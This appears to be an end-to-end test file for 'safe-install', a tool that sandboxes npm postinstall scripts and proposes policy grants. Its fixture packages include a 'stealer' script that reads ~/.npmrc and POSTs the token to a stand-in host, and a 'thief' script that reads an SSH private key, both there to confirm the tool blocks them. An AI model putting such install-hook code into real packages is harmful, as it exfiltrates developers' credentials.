import { spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { parse } from 'yaml';
import { plain } from './made.js';
import { hashTree } from './project.js';
import { type MadePackage, startRegistry, type TestRegistry } from './registry.js';

const BIN = fileURLToPath(new URL('../../bin/safe-install.js', import.meta.url));

const made = (name: string, postinstall: string, files: MadePackage['files'] = {}): MadePackage => ({
  manifest: { name, version: '1.0.0', scripts: { postinstall }, dependencies: { beside: '1.0.0' } },
  files,
});

const needy = made('needy', 'node build.js', {
  'build.js': [
    "const fs = require('node:fs');",
    "const path = require('node:path');",
    'const root = process.env.INIT_CWD;',
    "fs.mkdirSync(path.join(require('node:os').homedir(), '.cache/needy'), { recursive: true });",
    "fs.writeFileSync(path.join(require('node:os').homedir(), '.cache/needy/part'), '1');",
    "fs.mkdirSync(path.join(root, 'generated'), { recursive: true });",
    "fs.writeFileSync(path.join(root, 'generated/client.js'), process.env.NEEDY_MODE ?? 'plain');",
    "const settings = path.join(root, 'needy.json');",
    "const wanted = fs.readFileSync(settings, 'utf8');",
    "fs.writeFileSync('done.txt', wanted);",
    '',
  ].join('\n'),
});

const stealer = made('stealer', 'node steal.js', {
  'steal.js': [
    "const token = require('node:fs').readFileSync(require('node:os').homedir() + '/.npmrc', 'utf8');",
    "require('node:https').request({ host: 'collect.invalid', method: 'POST' }).end(token);",
    '',
  ].join('\n'),
});

let registry: TestRegistry;
let root: string;
const at = (...parts: string[]) => join(root, 'project', ...parts);

beforeAll(async () => {
  registry = await startRegistry();
  const thief = `cat ~/.ssh/id_ed25519 >/dev/null; getent hosts collect.example; sleep 20`;
  const asks = `getent hosts mirror.example || echo none`;
  for (const one of [
    plain('beside', '1.0.0'),
    needy,
    stealer,
    made('thief', thief),
    made('asks', asks),
    plain('quiet', '1.0.0'),
  ])
    await registry.publish(one);
});
afterAll(() => registry.stop());
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'si-learn-e2e-'));
  for (const folder of ['project', 'home']) await mkdir(join(root, folder));
  await writeFile(at('package.json'), JSON.stringify({ name: 'p', version: '1.0.0' }));
  await writeFile(at('needy.json'), 'mine\n');
});
afterEach(() => rm(root, { recursive: true, force: true }));

async function policy(value: Record<string, unknown> = {}): Promise<void> {
  const tomorrow = new Date(Date.now() + 24 * 3600_000).toISOString().slice(0, 10);
  const exceptions = [{ package: 'thief', reason: 'to see the sandbox stop it', expires: tomorrow }];
  await writeFile(at('safe-install.yaml'), `# ours\n${JSON.stringify({ exceptions, ...value }, null, 2)}\n`);
}

async function run(...argv: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  const child = spawn(process.execPath, [BIN, ...argv], {
    cwd: at(),
    stdio: ['ignore', 'pipe', 'pipe'],
    env: {
      PATH: process.env['PATH'],
      HOME: join(root, 'home'),
      SAFE_INSTALL_HOME: join(root, 'state'),
      NEEDY_MODE: 'fast',
      npm_config_registry: registry.url,
      npm_config_cache: join(root, 'cache'),
      npm_config_globalconfig: join(root, 'none'),
    },
  });
  let [stdout, stderr] = ['', ''];
  child.stdout.on('data', (data) => {
    stdout += data;
  });
  child.stderr.on('data', (data) => {
    stderr += data;
  });
  const code = await new Promise<number | null>((done) => child.on('close', done));
  return { code, stdout, stderr };
}

test('shows what a script was refused as a change of the policy, and saves it only when told to', async () => {
  const before = await hashTree(at());
  const shown = await run('learn', 'needy');
  expect(shown.code, shown.stderr).toBe(0);
  expect(shown.stdout).toContain('learnt from needy@1.0.0: postinstall exit 1');
  expect(shown.stdout).toMatch(/^ {2}write {2}generated /m);
  expect(shown.stdout).toMatch(/^ {2}read {3}needy\.json /m);
  expect(shown.stdout).toMatch(/^ {2}env {4}NEEDY_MODE /m);
  expect(shown.stdout).toMatch(/^\+ grants:/m);
  expect(shown.stdout).toMatch(/vanish.*\n {2}cache {2}~\/\.cache\/needy/);
  expect(shown.stderr).toContain('Not saved');
  expect(await hashTree(at()), 'the project is not touched').toEqual(before);

  const saved = await run('learn', 'needy', '--yes', '--caches');
  expect(saved.code, saved.stderr).toBe(0);
  expect(parse(await readFile(at('safe-install.yaml'), 'utf8'))).toEqual({
    grants: {
      'needy@1.0.0': {
        writable: ['generated', '~/.cache/needy'],
        readable: ['needy.json'],
        env: ['NEEDY_MODE'],
      },
    },
  });
});

test('what it proposes is enough: the package installs with it, and did not without', async () => {
  expect((await run('install', 'needy')).code).toBe(1);
  expect((await run('learn', 'needy@1.0.0', '--yes', '--caches')).code).toBe(0);
  const installed = await run('install', 'needy');
  expect(installed.code, installed.stderr).toBe(0);
  expect(await readFile(at('node_modules/needy/done.txt'), 'utf8')).toBe('mine\n');
  expect(await readFile(at('generated/client.js'), 'utf8')).toBe('fast');
  expect(existsSync(join(root, 'home/.cache/needy/part'))).toBe(true);
  const again = await run('learn', 'needy');
  expect(again.stdout).toContain('postinstall exit 0');
  expect(again.stdout).not.toMatch(/^\+/m);
});

test('proposes hosts from refused names, keeps the file as it was, and tells --json the same', async () => {
  await policy();
  const { code, stdout } = await run('learn', 'asks', '--json', '--yes', '--any-version');
  expect(code).toBe(0);
  const told = JSON.parse(stdout);
  expect(told).toMatchObject({ schema: 1, package: 'asks@1.0.0', saved: true });
  expect(told.proposal.proposed).toMatchObject([{ kind: 'host', value: 'mirror.example' }]);
  const text = await readFile(at('safe-install.yaml'), 'utf8');
  expect(text).toBe(told.edit.after);
  expect(text).toContain('# ours');
  expect(parse(text).grants).toEqual({ asks: { hosts: ['mirror.example'] } });
});

test('proposes nothing for a script that was ended for a violation: exit 12', async () => {
  await policy();
  const before = await hashTree(at());
  const { code, stdout, stderr } = await run('learn', 'thief', '--yes');
  expect(code).toBe(12);
  expect(stderr).toContain('EVIOLATION');
  expect(stdout).toMatch(/not proposed\n {2}host {3}collect\.example/);
  expect(stdout).toContain('There is nothing to grant.');
  expect(await hashTree(at())).toEqual(before);
});

test('learns nothing where the package is blocked, or has no script', async () => {
  const blocked = await run('learn', 'stealer', '--yes');
  expect([blocked.code, blocked.stdout]).toEqual([10, '']);
  expect(blocked.stderr).toContain('Nothing was learnt');
  const quiet = await run('learn', 'quiet');
  expect([quiet.code, quiet.stdout]).toEqual([1, '']);
  expect(quiet.stderr).toContain('ENOSCRIPT');
});
